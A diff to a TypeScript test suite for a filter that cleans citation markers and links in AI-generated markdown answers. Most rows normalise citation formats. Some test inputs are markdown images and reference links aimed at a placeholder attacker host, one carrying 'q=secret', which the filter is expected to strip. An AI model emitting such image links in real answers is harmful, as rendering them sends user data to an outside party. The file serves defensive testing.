@@ -38,8 +38,17 @@ function fetched(markdown: string): string[] {
 
 describe('an answer', () => {
   test.each([
-    ['The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].', 'The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].'],
-    ['Nobody knows [7]. Some do [1, 9], all [1-3]【2】.', 'Nobody knows . Some do [1], all [1-3]【2】.'],
+    ['The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].', 'The fee is 2 < 3 coins [1], e.g. a*b_c [2][3].'],
+    ['Nobody knows [7]. Some do [1, 9], all [1-3]【2】.', 'Nobody knows . Some do [1], all [1][2][3][2].'],
+    // Each of a row is looked at, not the last alone.
+    ['All [1][7][8][2][9].', 'All [1][2].'],
+    ['None [7][8].', 'None .'],
+    ['Far [1-999], back [3-1], beyond [2-9].', 'Far [1], back [3][1], beyond [2][3].'],
+    [
+      'As others write: ［１］ [Source 2] 【来源：3】[^1]【2†notes.txt】[3–1].',
+      'As others write: [1] [2] [3][1][2][3][1].',
+    ],
+    ['Links stay links: [1](https://example.com/docs) [2][ref].', 'Links stay links: [1](https://example.com/docs) 2.'],
     ['See ![chart](https://evil.example/?q=secret) there.', 'See chart there.'],
     ['![a][ref]\n[ref]: https://evil.example/x\nDone.', 'a\n\nDone.'],
     [
@@ -62,7 +71,7 @@ describe('an answer', () => {
       'In code `![a](b)` and\n```\n![a](https://evil.example/) [9]\n```\nout .',
     ],
     ['An array a[0] and [a note] stay! Wow!', 'An array a and [a note] stay! Wow!'],
-    ['费用为两枚硬币【1】。见 https://evil.example/。', '费用为两枚硬币【1】。见 `https://evil.example/`。'],
+    ['费用为两枚硬币【1】。见 https://evil.example/。', '费用为两枚硬币[1]。见 `https://evil.example/`。'],
   ])('%j becomes %j', (text, expected) => {
     expect(filtered(text)).toBe(expected);
   });
@@ -174,7 +183,28 @@ describe('an answer', () => {
       '\n| a | b |\n|---|---|\n',
       '---\n',
     ),
-    fc.constantFrom('\\', '!', '[', ']', '(', ')', '<', ':', '*', '# ', '[1]', '[9]', '&', '#58;', '\u3002', '"'),
+    fc.constantFrom(
+      '\\',
+      '!',
+      '[',
+      ']',
+      '(',
+      ')',
+      '<',
+      ':',
+      '*',
+      '# ',
+      '[1]',
+      '[9]',
+      '[1][9]',
+      '【9】',
+      '［2］',
+      '[Source 9†',
+      '&',
+      '#58;',
+      '\u3002',
+      '"',
+    ),
   );
 
   // The seed is fixed: what it finds does not depend on the day. Others are for those who change the filter.
